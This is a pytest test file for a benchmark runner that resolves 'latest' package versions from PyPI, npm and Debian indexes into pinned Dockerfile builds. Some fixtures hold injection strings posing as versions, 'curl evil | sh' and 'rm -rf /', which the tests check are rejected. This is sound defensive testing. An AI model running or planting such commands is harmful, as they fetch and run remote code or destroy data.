"""Versions decided at plan time (runner.resolve), against a fake index: what is asked, what is pinned,
what is recorded, and what happens when no index answers."""

from __future__ import annotations

import hashlib
import json
import lzma
from dataclasses import replace
from datetime import datetime, timezone
from pathlib import Path

import pytest

from runner.cli import main
from runner.engines.images import content_hash, image_plan
from runner.errors import ConfigError
from runner.matrix.load import parse_matrix
from runner.matrix.model import Matrix, Resolution, Track, Tracked
from runner.results import history
from runner.results.model import SCHEMA_VERSION, EnvStatus, Results
from runner.versions import index, resolve
from tests.support.fake_engine import FakeEngine, HostHarness
from tests.support.fake_index import DEFAULT, FakeIndex
from tests.support.matrices import good
from tests.support.site import site_html

#: the real index's class, taken before the unit tests' guard puts the fake in its place
REAL_INDEX = index.PackageIndex


def engine() -> FakeEngine:
    return FakeEngine(images={"debian:trixie", "debian:forky"}, handler=HostHarness(good))


MATRIX = """
version: 1
fixtures: [int32-random]
environments:
  - base: debian:trixie
    channel: pip
    name: "zarr-{zarr}-py3.13"
    packages: ["zarr=={zarr}", "numcodecs=={numcodecs}"]
    matrix:
      zarr: [latest, latest-pre, "3.2.1"]
      numcodecs: [latest]
  - base: debian:forky
    channel: apt
    packages: [python3-zarr, python3-numcodecs]
"""


def resolved(
    index: FakeIndex, recorded: dict[str, Resolution] | None = None, text: str = MATRIX
) -> tuple[Matrix, dict[str, Resolution]]:
    matrix = parse_matrix(text, "m.yaml")
    return resolve.resolve(matrix, index, recorded or {})


def test_latest_is_asked_of_the_index_for_the_environments_python_and_pinned() -> None:
    index = replace(DEFAULT, asked=[])
    matrix, answers = resolved(index)
    by_slug = {e.slug: e for e in matrix.environments}
    assert by_slug["zarr-latest-py3.13"].packages == ("zarr==3.4.2", "numcodecs==0.17.1")
    assert by_slug["zarr-latest-pre-py3.13"].packages == ("zarr==3.5.0rc1", "numcodecs==0.17.1")
    assert by_slug["zarr-3.2.1-py3.13"].packages == ("zarr==3.2.1", "numcodecs==0.17.1")
    assert ("pypi", "zarr", "3.13", "pre") in index.asked and ("pypi", "zarr", "3.13", "final") in index.asked
    # one question per (package, python, track), however many environments share it
    assert sum(1 for a in index.asked if a[:2] == ("pypi", "numcodecs")) == 1
    latest = by_slug["zarr-latest-py3.13"]
    assert latest.asked == {"zarr": "latest", "numcodecs": "latest"}
    assert latest.pins["zarr"] == "3.4.2"  # probes are chosen by the resolved version
    zarr = next(r for r in latest.resolved if r.package == "zarr")
    assert (zarr.version, zarr.released, zarr.recorded, zarr.source) == (
        "3.4.2",
        "2026-10-27",
        False,
        "PyPI, Python 3.13, wheels",
    )
    assert answers["pypi zarr py3.13 latest"].version == "3.4.2"


def test_apt_packages_are_installed_at_the_suites_index_version_and_the_hash_follows_it() -> None:
    matrix, _ = resolved(DEFAULT)
    apt = next(e for e in matrix.environments if e.channel == "apt")
    assert [(r.package, r.version, r.asked) for r in apt.resolved] == [
        ("python3-zarr", "3.4.1-2", "suite"),
        ("python3-numcodecs", "0.17.0+ds-2", "suite"),
    ]
    dockerfile = image_plan(apt).dockerfile
    assert "python3-zarr=3.4.1-2 python3-numcodecs=0.17.0+ds-2" in dockerfile
    assert "Check-Valid-Until" not in dockerfile
    newer = {**DEFAULT.debian["forky"], "python3-zarr": "3.4.2-1"}
    moved, _ = resolved(replace(DEFAULT, debian={**DEFAULT.debian, "forky": newer}))
    apt_after = next(e for e in moved.environments if e.channel == "apt")
    assert content_hash(apt_after) != content_hash(apt)  # a Debian upload rebuilds exactly its images
    pip_before = [content_hash(e) for e in matrix.environments if e.channel == "pip"]
    assert [content_hash(e) for e in moved.environments if e.channel == "pip"] == pip_before


def test_a_new_release_changes_the_hash_of_exactly_the_environments_that_track_it() -> None:
    before, _ = resolved(DEFAULT)
    pypi = {**DEFAULT.pypi, ("zarr", "3.13"): ("3.4.3", "3.5.0rc1")}
    after, _ = resolved(replace(DEFAULT, pypi=pypi))
    changed = {
        b.slug
        for b, a in zip(before.environments, after.environments, strict=True)
        if content_hash(a) != content_hash(b)
    }
    assert changed == {"zarr-latest-py3.13"}


def test_an_expired_debian_index_is_used_as_resolved_and_said_so() -> None:
    stale = replace(DEFAULT, valid_until=datetime(2026, 11, 6, tzinfo=timezone.utc))
    matrix, _ = resolved(stale)
    apt = next(e for e in matrix.environments if e.channel == "apt")
    assert all(r.stale for r in apt.resolved)
    assert "valid until 2026-11-06) has expired" in apt.resolved[0].note
    assert "apt-get update -o Acquire::Check-Valid-Until=false" in image_plan(apt).dockerfile


def test_no_index_uses_the_last_recorded_answer_and_says_so() -> None:
    _, answers = resolved(DEFAULT)
    matrix, _ = resolved(replace(DEFAULT, down=True), recorded=answers)
    latest = next(e for e in matrix.environments if e.slug == "zarr-latest-py3.13")
    assert latest.packages == ("zarr==3.4.2", "numcodecs==0.17.1")
    assert latest.unresolved is None
    zarr = next(r for r in latest.resolved if r.package == "zarr")
    assert zarr.recorded and "no index answered (pip index versions zarr: connection refused)" in zarr.note
    assert "the resolution recorded at" in zarr.note


def test_no_index_and_nothing_recorded_is_never_another_version() -> None:
    matrix, _ = resolved(replace(DEFAULT, down=True))
    latest = next(e for e in matrix.environments if e.slug == "zarr-latest-py3.13")
    assert latest.packages == ("zarr", "numcodecs")  # nothing pinned, and nothing will be built
    assert latest.unresolved is not None and "no earlier resolution is recorded" in latest.unresolved
    pinned = next(e for e in matrix.environments if e.slug == "zarr-3.2.1-py3.13")
    assert pinned.unresolved is not None and "numcodecs (latest" in pinned.unresolved


def test_an_answer_that_is_not_a_version_never_reaches_a_dockerfile() -> None:
    evil = replace(DEFAULT, pypi={**DEFAULT.pypi, ("zarr", "3.13"): ("3.4.2; curl evil | sh", "x")})
    matrix, _ = resolved(evil)
    latest = next(e for e in matrix.environments if e.slug == "zarr-latest-py3.13")
    assert latest.unresolved is not None and "non-version" in latest.unresolved
    debian = {**DEFAULT.debian, "forky": {"python3-zarr": "1.0 && rm -rf /", "python3-numcodecs": "0.17"}}
    matrix, _ = resolved(replace(DEFAULT, debian=debian))
    apt = next(e for e in matrix.environments if e.channel == "apt")
    assert apt.unresolved is not None and "python3-zarr" in apt.unresolved


@pytest.mark.parametrize(
    ("packages", "base", "channel", "expected"),
    [
        ('["zarr>={zarr}"]', "debian:trixie", "pip", "write the entry as NAME=={axis}"),
        ('["zarrita@^{zarr}"]', "debian:trixie", "npm", "write the entry as NAME@{axis}"),
        ('["zarr=={zarr}"]', "debian:{zarr}", "pip", "picks a package version, not a base image"),
        ('["python3-zarr{zarr}"]', "debian:trixie", "apt", "a Debian package's version is the suite's"),
    ],
)
def test_a_track_where_no_version_can_stand_is_a_config_error(
    packages: str, base: str, channel: str, expected: str
) -> None:
    text = f"""
version: 1
environments:
  - base: "{base}"
    channel: {channel}
    packages: {packages}
    matrix: {{zarr: [latest]}}
"""
    with pytest.raises(ConfigError, match=r"m\.yaml:\d+: environments\[0\]") as err:
        parse_matrix(text, "m.yaml")
    assert expected in str(err.value)


def test_tracks_keep_the_slug_stable_across_releases() -> None:
    matrix = parse_matrix(MATRIX.replace('    name: "zarr-{zarr}-py3.13"\n', ""), "m.yaml")
    assert [e.slug for e in matrix.environments][:2] == ["zarr-latest-pip-py3.13", "zarr-latest-pre-pip-py3.13"]
    assert matrix.environments[0].tracks == (
        Tracked(name="zarr", track=Track.LATEST, registry="pypi"),
        Tracked(name="numcodecs", track=Track.LATEST, registry="pypi"),
    )


NPM = """
version: 1
fixtures: [int32-random]
environments:
  - base: debian:trixie
    channel: npm
    packages: ["zarrita@{zarrita}", "@zarrita/storage@{storage}", "numcodecs@0.3.2"]
    pip: ["numpy=={numpy}"]
    matrix:
      zarrita: [latest, latest-pre, "0.5.4"]
      storage: [latest]
      numpy: [latest]
"""


def test_npm_latest_is_asked_of_the_registry_and_pinned_like_pypis() -> None:
    """npm versions may be written latest (the registry's latest dist-tag) or latest-pre (the version
    published last): asked once each, installed exactly, recorded, and in the image hash."""
    index = replace(
        DEFAULT,
        asked=[],
        npm={"zarrita": ("0.7.5", "0.8.0-next.1"), "@zarrita/storage": ("0.2.0", "0.2.0")},
        pypi={("numpy", "3.13"): ("2.5.5", "2.6.0rc1")},
    )
    matrix, answers = resolved(index, text=NPM)
    by_slug = {e.slug: e for e in matrix.environments}
    assert list(by_slug) == ["zarrita-latest-npm-trixie", "zarrita-latest-pre-npm-trixie", "zarrita-0.5.4-npm-trixie"]
    latest = by_slug["zarrita-latest-npm-trixie"]
    assert latest.packages == ("zarrita@0.7.5", "@zarrita/storage@0.2.0", "numcodecs@0.3.2")
    assert latest.pip == ("numpy==2.5.5",) and latest.asked == {
        "zarrita": "latest",
        "@zarrita/storage": "latest",
        "numpy": "latest",
    }
    assert by_slug["zarrita-latest-pre-npm-trixie"].packages[0] == "zarrita@0.8.0-next.1"
    assert by_slug["zarrita-0.5.4-npm-trixie"].packages[0] == "zarrita@0.5.4"
    assert sum(1 for a in index.asked if a[:2] == ("npm", "@zarrita/storage")) == 1  # one question, shared
    zarrita = answers["npm zarrita registry latest"]
    assert (zarrita.version, zarrita.released, zarrita.source, zarrita.registry) == (
        "0.7.5",
        "2026-11-12",
        "npm registry",
        "npm",
    )
    newer = replace(index, npm={**index.npm, "zarrita": ("0.7.6", "0.8.0-next.1")})
    again = {e.slug: e for e in resolved(newer, text=NPM)[0].environments}
    assert content_hash(again["zarrita-latest-npm-trixie"]) != content_hash(latest)
    assert content_hash(again["zarrita-0.5.4-npm-trixie"]) == content_hash(by_slug["zarrita-0.5.4-npm-trixie"])
    # no registry: the answer recorded before, said so; an answer that is not a version never reaches npm
    offline, _ = resolved(replace(index, down=True), recorded=answers, text=NPM)
    kept = next(r for r in offline.environments[0].resolved if r.package == "zarrita")
    assert kept.recorded and kept.version == "0.7.5" and "no index answered" in kept.note
    evil = replace(index, npm={**index.npm, "zarrita": ("0.7.5 && curl evil | sh", "x")})
    bad = resolved(evil, text=NPM)[0].environments[0]
    assert bad.unresolved is not None and "non-version" in bad.unresolved
    assert resolve.recorded_in([]) == {}


def test_the_npm_registrys_document_is_read_with_care() -> None:
    doc = {
        "dist-tags": {"latest": "0.7.5", "next": "0.8.0-next.1"},
        "versions": {"0.7.5": {}, "0.8.0-next.1": {}, "0.6.0": {}},
        "time": {"created": "2023-01-01T00:00:00Z", "0.6.0": "2025-01-01T00:00:00Z",
                 "0.7.5": "2026-09-30T10:00:00.000Z", "0.8.0-next.1": "2026-11-12T08:00:00.000Z"},
    }  # fmt: skip
    assert index.newest_npm(doc, False, "u") == index.Newest(version="0.7.5", released="2026-09-30")
    assert index.newest_npm(doc, True, "u").version == "0.8.0-next.1"  # "created" is not a version
    with pytest.raises(index.IndexUnavailable, match="no latest dist-tag"):
        index.newest_npm({"versions": {}}, False, "u")
    with pytest.raises(index.IndexUnavailable, match="not a package document"):
        index.newest_npm(["x"], False, "u")
    with pytest.raises(LookupError, match="no such package"):
        index.newest_npm({"error": "Not found"}, False, "u")


def test_packages_index_and_release_dates_are_parsed() -> None:
    text = (
        b"Package: a\nVersion: 1.0-1\n\nPackage: b\nArchitecture: all\nVersion: 1:2.0-3\n\nPackage: a\nVersion: 1.1-1\n"
    )
    assert index.parse_packages(text.split(b"\n")) == {"a": "1.1-1", "b": "1:2.0-3"}
    packed = lzma.compress(text)
    assert index.parse_packages(index._inflated_lines(packed, "Packages.xz")) == {"a": "1.1-1", "b": "1:2.0-3"}
    dates = index.release_dates(
        b"Origin: Debian\nDate: Fri, 30 Oct 2026 08:08:01 UTC\nValid-Until: Fri, 06 Nov 2026 08:08:01 UTC\n"
    )
    assert dates["valid_until"] == datetime(2026, 11, 6, 8, 8, 1, tzinfo=timezone.utc)
    with pytest.raises(index.IndexUnavailable, match="inflates past"):
        bomb = lzma.compress(b"\0" * (index.MAX_PACKAGES_BYTES + 10))
        list(index._inflated_lines(bomb, "Packages.xz"))
    with pytest.raises(index.IndexUnavailable, match="not an xz file"):
        list(index._inflated_lines(b"not xz at all", "Packages.xz"))


def test_a_run_records_what_was_asked_and_resolved_and_a_later_offline_run_uses_it(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    matrix = tmp_path / "m.yaml"
    matrix.write_text(MATRIX)
    out = tmp_path / "site"
    code = main(
        [str(matrix), "--out", str(out), "--only", "zarr-latest-py3.13", "--no-benchmark"],
        engine=engine(),
        index=DEFAULT,
    )
    assert code == 0
    results = Results.read(out / "results.json")
    env = results.environments[0]
    assert env.packages == ["zarr==3.4.2", "numcodecs==0.17.1"]
    assert {r.package: (r.asked, r.version) for r in env.resolved} == {
        "zarr": ("latest", "3.4.2"),
        "numcodecs": ("latest", "0.17.1"),
    }
    assert history.resolutions(out / "history.sqlite")["pypi zarr py3.13 latest"].version == "3.4.2"
    html = site_html(out)
    assert "latest → 3.4.2" in html and "released 2026-10-27" in html

    # the next night no index answers: the recorded versions are used, and the run says so
    code = main(
        [str(matrix), "--out", str(out), "--only", "zarr-latest-py3.13", "--no-benchmark"],
        engine=engine(),
        index=replace(DEFAULT, down=True),
    )
    assert code == 0
    env = Results.read(out / "results.json").environments[0]
    assert env.status is EnvStatus.OK and env.packages == ["zarr==3.4.2", "numcodecs==0.17.1"]
    assert all(r.recorded for r in env.resolved)
    assert "recorded" in site_html(out)


def test_an_unresolvable_environment_is_install_failed_and_the_run_goes_on(tmp_path: Path) -> None:
    matrix = tmp_path / "m.yaml"
    matrix.write_text(MATRIX)
    out = tmp_path / "site"
    code = main([str(matrix), "--out", str(out), "--no-benchmark"], engine=engine(), index=replace(DEFAULT, down=True))
    assert code == 0
    results = Results.read(out / "results.json")
    latest = next(e for e in results.environments if e.slug == "zarr-latest-py3.13")
    assert latest.status is EnvStatus.INSTALL_FAILED
    assert latest.reason.startswith("version not resolved: zarr (latest, PyPI, Python 3.13, wheels): no index answered")


def test_list_shows_the_resolution(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    matrix = tmp_path / "m.yaml"
    matrix.write_text(MATRIX)
    assert main([str(matrix), "--list", "--out", str(tmp_path)], index=DEFAULT) == 0
    text = capsys.readouterr().out
    assert "resolved: zarr latest -> 3.4.2 (PyPI, Python 3.13, wheels, released 2026-10-27)" in text
    assert "python3-zarr suite -> 3.4.1-2 (Debian forky main amd64)" in text
    assert not (tmp_path / "history.sqlite").exists()  # --list records nothing


def test_resume_keeps_the_versions_of_the_run_it_completes(tmp_path: Path) -> None:
    matrix = tmp_path / "m.yaml"
    matrix.write_text(MATRIX)
    out = tmp_path / "site"
    args = [str(matrix), "--out", str(out), "--only", "zarr-latest-py3.13", "--no-benchmark"]
    assert main(args, engine=engine(), index=DEFAULT) == 0
    newer = replace(DEFAULT, pypi={**DEFAULT.pypi, ("zarr", "3.13"): ("3.4.3", "3.5.0rc1")}, asked=[])
    assert main([*args, "--resume"], engine=engine(), index=newer) == 0
    assert Results.read(out / "results.json").environments[0].packages[0] == "zarr==3.4.2"
    assert not any(a[1] == "zarr" for a in newer.asked)
    data = json.loads((out / "results.json").read_text())
    assert data["schema_version"] == SCHEMA_VERSION


def test_a_suites_index_is_kept_by_the_hash_its_release_file_gives(tmp_path: Path) -> None:
    """A suite's Packages.xz (~10 MB, ~1.4 s to parse) is downloaded and parsed again only when the suite's
    InRelease names another SHA-256 for it; only bytes that match that hash are kept."""
    suite = tmp_path / "debian" / "dists" / "sid"
    packages = suite / "main" / "binary-amd64" / "Packages.xz"
    packages.parent.mkdir(parents=True)

    def publish(text: bytes, listed: bytes | None = None) -> None:
        packed = lzma.compress(text)
        packages.write_bytes(packed)
        digest = hashlib.sha256(listed if listed is not None else packed).hexdigest().encode()
        (suite / "InRelease").write_bytes(
            b"Origin: Debian\nSHA256:\n " + digest + b" %d main/binary-amd64/Packages.xz\n" % len(packed)
        )

    cache = tmp_path / "cache"
    mirror = REAL_INDEX((tmp_path / "debian").as_uri(), cache=cache)
    publish(b"Package: a\nVersion: 1.0-1\n")
    assert mirror.debian_versions("sid", "amd64").versions == {"a": "1.0-1"}
    assert len(list(cache.glob("debian-*.json"))) == 1
    packages.write_bytes(b"not xz at all")  # the hash it is listed with is unchanged: not read again
    assert mirror.debian_versions("sid", "amd64").versions == {"a": "1.0-1"}
    publish(b"Package: a\nVersion: 1.1-1\n")  # a new index
    assert mirror.debian_versions("sid", "amd64").versions == {"a": "1.1-1"}
    publish(b"Package: a\nVersion: 1.2-1\n", listed=b"other bytes")  # caught mid-update: used, not kept
    assert mirror.debian_versions("sid", "amd64").versions == {"a": "1.2-1"}
    assert len(list(cache.glob("debian-*.json"))) == 2
    for kept in cache.glob("debian-*.json"):
        kept.write_text('["not", "a", "suite"]')  # not a file the index wrote: read the suite again
    publish(b"Package: a\nVersion: 1.1-1\n")
    assert mirror.debian_versions("sid", "amd64").versions == {"a": "1.1-1"}
    assert (
        index.release_sha256(b"SHA256:\n 00 1 main/binary-amd64/Packages.xz\n", "main/binary-amd64/Packages.xz") is None
    )
